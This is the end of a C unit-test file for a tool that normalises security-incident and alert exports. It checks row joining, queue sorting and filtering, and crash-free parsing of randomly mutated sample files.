	json_t *in, *out, *inc, *w = json_array();
	char err[256];

	/* The C.7 shape: one row per incident and alert, incident versions
	 * out of order, and an alert no incident lists. */
	in = parse("{\"columns\":[{\"name\":\"TimeGenerated\"},{\"name\":"
	    "\"IncidentNumber\"},{\"name\":\"Title\"},{\"name\":\"Severity\"},"
	    "{\"name\":\"AlertId\"},{\"name\":\"AlertName\"},{\"name\":"
	    "\"AlertSeverity\"},{\"name\":\"Tactics\"}],\"rows\":["
	    "[\"2024-01-01T10:00:00Z\",5,\"new title\",\"High\",\"x1\",\"A\","
	    "\"Low\",\"Execution, Persistence\"],"
	    "[\"2024-01-01T09:00:00Z\",5,\"old title\",\"Medium\",\"x2\",\"B\","
	    "\"Medium\",\"[\\\"Execution\\\"]\"],"
	    "[\"2024-01-01T10:00:00Z\",5,\"new title\",\"High\",\"x1\",\"A\","
	    "\"Low\",\"Execution\"]]}");
	out = incident_normalise(in, NULL, w, err, sizeof(err));
	inc = json_array_get(out, 0);
	is_int((long long)json_array_size(out), 1, "joined rows: one incident");
	is_str(jx_str(inc, "title"), "new title", "joined rows: the newest "
	    "version");
	is_str(jx_str(inc, "severity"), "High", "joined rows: the incident's "
	    "severity, not the alert's");
	is_int((long long)json_array_size(json_object_get(inc, "alerts")), 2,
	    "joined rows: two alerts, the repeated one once");
	is_str(jx_path_str(inc, "alerts[0].severity"), "Low",
	    "joined rows: the alert's own severity");
	is_str(jx_path_str(inc, "tactics[1]"), "Persistence", "joined rows: "
	    "tactics from a comma list and from JSON text, merged");
	json_decref(out);
	json_decref(in);

	in = parse("[{\"IncidentNumber\":1,\"Title\":\"t\",\"AlertIds\":"
	    "\"[\\\"a\\\"]\"},{\"SystemAlertId\":\"a\",\"AlertName\":\"x\"},"
	    "{\"SystemAlertId\":\"b\",\"AlertName\":\"y\"},{\"Foo\":1}]");
	out = incident_normalise(in, NULL, w, err, sizeof(err));
	is_int((long long)json_array_size(jx_path(json_array_get(out, 0),
	    "alerts")), 1, "rows: alerts join by AlertIds");
	ok(warned(w, "1 alert belongs to no incident"), "rows: the orphan "
	    "alert is reported");
	ok(warned(w, "1 item that is not"), "rows: the stray object is "
	    "reported");
	json_decref(out);
	json_decref(in);
	json_decref(w);
}

static void
test_queue(void)
{
	json_t *recs, *sums, *s;
	struct incident_filter f;
	size_t i;
	int64_t t;

	recs = parse("[{\"type\":\"incident\",\"number\":1,\"severity\":\"Low"
	    "\","
	    "\"status\":\"New\",\"created\":\"2024-01-02T00:00:00Z\",\"owner\":"
	    "{\"name\":null}},"
	    "{\"type\":\"incident\",\"number\":2,\"severity\":\"High\","
	    "\"status\":\"Active\",\"created\":\"2024-01-01T00:00:00.5Z\","
	    "\"owner\":{\"name\":\"Jane Doe\"}},"
	    "{\"type\":\"incident\",\"number\":3,\"severity\":\"High\","
	    "\"status\":\"New\",\"created\":\"2024-01-01T00:00:00Z\"},"
	    "{\"type\":\"incident\",\"number\":4,\"severity\":\"High\","
	    "\"status\":\"Closed\",\"created\":\"2024-01-01T00:00:00Z\"},"
	    "{\"type\":\"incident\",\"number\":5}]");
	sums = json_array();
	for (i = 0; i < json_array_size(recs); i++)
		json_array_append_new(sums, incident_summary(
		    json_array_get(recs, i)));
	incident_sort_summaries(sums);
	is_int(jx_int(json_array_get(sums, 0), "number", 0), 2, "sort: High, "
	    "newest (by the fraction of a second) first");
	is_int(jx_int(json_array_get(sums, 1), "number", 0), 4, "sort: equal "
	    "times, higher number first");
	is_int(jx_int(json_array_get(sums, 3), "number", 0), 1, "sort: then "
	    "Low");
	is_int(jx_int(json_array_get(sums, 4), "number", 0), 5, "sort: no "
	    "severity last");
	is_str(jx_str(json_array_get(sums, 0), "owner"), "Jane Doe",
	    "summary: the owner's name");
	memset(&f, 0, sizeof(f));
	f.status = "new, active";
	f.owner = "unassigned";
	s = json_array_get(sums, 0);
	ok(!incident_filter_match(s, &f), "filter: assigned is not "
	    "unassigned");
	f.owner = "jane";
	ok(incident_filter_match(s, &f), "filter: part of the owner's name");
	f.owner = NULL;
	f.severity = "low";
	ok(!incident_filter_match(s, &f), "filter: severity");
	f.severity = NULL;
	incident_time_parse("2024-01-01T12:00:00Z", &t);
	f.since = t;
	ok(!incident_filter_match(s, &f) &&
	    incident_filter_match(json_array_get(sums, 3), &f),
	    "filter: since");
	json_decref(sums);
	json_decref(recs);
}

/* --- never crash -------------------------------------------------------- */

static uint32_t rng = 2463534242u;

static uint32_t
next_rand(void)
{
	rng ^= rng << 13;
	rng ^= rng >> 17;
	rng ^= rng << 5;
	return rng;
}

static char *
slurp(const char *rel, size_t *len)
{
	char path[1024];
	const char *top = getenv("TOP");
	FILE *fp;
	char *buf;
	long n;

	snprintf(path, sizeof(path), "%s/tests/fetch/data/%s",
	    top != NULL ? top : ".", rel);
	fp = fopen(path, "rb");
	if (fp == NULL)
		return NULL;
	fseek(fp, 0, SEEK_END);
	n = ftell(fp);
	fseek(fp, 0, SEEK_SET);
	buf = malloc((size_t)n + 1);
	if (buf == NULL || fread(buf, 1, (size_t)n, fp) != (size_t)n) {
		free(buf);
		fclose(fp);
		return NULL;
	}
	buf[n] = '\0';
	fclose(fp);
	*len = (size_t)n;
	return buf;
}

static void
test_mutations(void)
{
	static const char *const files[] = { "demo-357335-alerts.json",
	    "rest-incident.json", "graph-incident.json", "portal-joined.csv",
	    "sent_incidents.json" };
	static const char junk[] = "{}[]\",:$ref$id\\0123\n";
	char err[512], *orig, *buf;
	json_t *v, *out, *w;
	size_t len, f, i, k, runs = 0, parsed = 0;

	for (f = 0; f < sizeof(files) / sizeof(files[0]); f++) {
		orig = slurp(files[f], &len);
		if (orig == NULL) {
			ok(0, "mutations: cannot read %s (TOP unset?)",
			    files[f]);
			continue;
		}
		buf = malloc(len + 1);
		for (i = 0; i < 120; i++) {
			memcpy(buf, orig, len + 1);
			for (k = 0; k < 1 + next_rand() % 8; k++)
				buf[next_rand() % len] = junk[next_rand() %
				    (sizeof(junk) - 1)];
			v = incident_parse_text(buf, len, files[f], err,
			    sizeof(err));
			if (v != NULL) {
				w = json_array();
				out = incident_normalise(v, "t", w, err,
				    sizeof(err));
				parsed += out != NULL;
				json_decref(out);
				json_decref(w);
				json_decref(v);
			}
			runs++;
		}
		free(buf);
		free(orig);
	}
	ok(runs == 600, "mutations: %zu mutated exports read without a "
	    "crash (%zu still normalised)", runs, parsed);
}

int
main(void)
{
	test_resolve_c3();
	test_resolve_bad_refs();
	test_resolve_bounded();
	test_entities_c3();
	test_entities_across_alerts();
	test_entities_rest();
	test_entities_graph();
	test_sid_flags();
	test_cmdline_flags();
	test_decode();
	test_csv();
	test_times();
	test_refs();
	test_rows();
	test_queue();
	test_mutations();
	return tap_done();
}
